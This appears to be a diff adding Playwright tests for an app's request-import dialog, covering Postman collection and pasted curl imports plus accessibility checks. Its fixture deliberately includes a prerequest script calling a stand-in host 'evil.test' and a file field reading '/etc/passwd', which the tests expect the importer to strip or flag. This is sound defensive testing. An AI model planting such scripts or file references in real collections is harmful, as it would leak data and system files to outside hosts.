@@ -1,0 +1,117 @@
+import { expect, type Page } from '@playwright/test';
+import { chooseTheme, expectAccessible, themes } from './support/accessibility.ts';
+import { expectProblem } from './support/problems.ts';
+import { goTo, openPalette, pasteIntoPalette } from './support/screens.ts';
+import { test } from './support/test.ts';
+
+const canary = 'import-canary-5f2e9c';
+
+const collection = JSON.stringify({
+  info: { name: 'Shop', schema: 'https://schema.getpostman.com/json/collection/v2.1.0/collection.json' },
+  auth: { type: 'oauth2', oauth2: [{ key: 'clientId', value: '<your_client_id>' }] },
+  event: [{ listen: 'prerequest', script: { exec: ['pm.sendRequest("https://evil.test")'] } }],
+  variable: [{ key: 'api_key', value: `${canary}-variable` }],
+  item: [
+    {
+      name: 'Orders',
+      item: [
+        {
+          name: 'Place an order',
+          request: {
+            method: 'POST',
+            url: 'https://{{host}}/orders?dry=1',
+            header: [{ key: 'X-Api-Key', value: `${canary}-header` }],
+            body: { mode: 'formdata', formdata: [{ key: 'photo', type: 'file', src: '/etc/passwd' }] },
+          },
+        },
+      ],
+    },
+  ],
+});
+
+async function openDialog(page: Page) {
+  await openPalette(page);
+  await page.getByRole('combobox', { name: 'Search or paste' }).fill('import requests');
+  await page.keyboard.press('Enter');
+  return page.getByRole('dialog', { name: 'Import requests' });
+}
+
+const fileField = (page: Page) => page.getByLabel('Drop files here, or choose them');
+const jsonFile = (text: string) => ({
+  name: 'shop.json',
+  mimeType: 'application/json',
+  buffer: Buffer.from(text),
+});
+const list = (page: Page) => page.getByRole('complementary', { name: 'Saved requests' });
+
+test('a file is looked at before it is imported, what can’t be carried over is named, and undo takes all of it back', async ({
+  workbench,
+}) => {
+  const { page } = workbench;
+  await goTo(page, 'Requests');
+  const dialog = await openDialog(page);
+  await fileField(page).setInputFiles(jsonFile('{"hello":"world"}'));
+  await expectProblem(dialog, { code: 'IMPORT_NOT_READ', reason: 'not_recognised' });
+
+  await fileField(page).setInputFiles(jsonFile(collection));
+  await expect(
+    dialog.getByText('Postman collection “Shop”: 2 folders, 1 request, 2 variables'),
+  ).toBeVisible();
+  const codes = async (group: string) =>
+    dialog
+      .locator(`[data-group="${group}"] [data-code]`)
+      .evaluateAll((all) => all.map((each) => each.getAttribute('data-code')));
+  expect(await codes('change')).toEqual(['change_credentials']);
+  expect(await codes('choose')).toEqual([
+    'choose_token',
+    'choose_file',
+    'variable_undefined',
+    'application_described',
+  ]);
+  expect(await codes('removed')).toEqual(['script']);
+  await dialog.getByText('Secret moved to the vault').click();
+  await expect(dialog.getByText('X-Api-Key')).toBeVisible();
+  expect(await page.content()).not.toContain(canary);
+
+  await dialog.getByRole('button', { name: /^Import into/ }).click();
+  await expect(dialog).toBeHidden();
+  await expect(list(page).getByText('Place an order')).toBeVisible();
+  await expect(page.getByRole('textbox', { name: 'URL' })).toHaveValue('https://{{host}}/orders');
+  await page.getByRole('button', { name: 'Undo' }).click();
+  await expect(list(page).getByText('Place an order')).toBeHidden();
+});
+
+test('a pasted curl command becomes a request, its secrets variables', async ({ workbench }) => {
+  const { page } = workbench;
+  await openPalette(page);
+  await pasteIntoPalette(
+    page,
+    `curl -k https://api.test/orders -H 'X-Api-Key: ${canary}' -H 'Authorization: Bearer ${canary}-token'`,
+  );
+  await page.getByRole('option', { name: 'Import as a request' }).click();
+  const dialog = page.getByRole('dialog', { name: 'Import requests' });
+  await expect(dialog.getByText('Unsafe option')).toBeVisible();
+  await dialog.getByText('Unsafe option').click();
+  await expect(dialog.getByText('--insecure')).toBeVisible();
+  await dialog.getByRole('button', { name: /^Import into/ }).click();
+  await expect(list(page).getByText('GET /orders')).toBeVisible();
+  await page
+    .getByRole('tab', { name: /Headers/ })
+    .first()
+    .click();
+  await expect(page.getByRole('textbox', { name: /value/i }).first()).toHaveValue('{{x_api_key}}');
+  expect(await page.content()).not.toContain(canary);
+});
+
+for (const theme of themes)
+  test(`axe finds nothing in the import, ${theme}`, async ({ workbench }) => {
+    const { page } = workbench;
+    await chooseTheme(page, theme);
+    const dialog = await openDialog(page);
+    await expect(fileField(page)).toBeVisible();
+    await expectAccessible(page, 'choosing what to import', { except: ['region'] });
+    await fileField(page).setInputFiles(jsonFile(collection));
+    await expect(dialog.getByRole('button', { name: /^Import into/ })).toBeVisible();
+    if (process.env.SHOTS) await page.screenshot({ path: `${process.env.SHOTS}/import-${theme}.png` });
+    await expectAccessible(page, 'what an import says', { except: ['region'] });
+  });
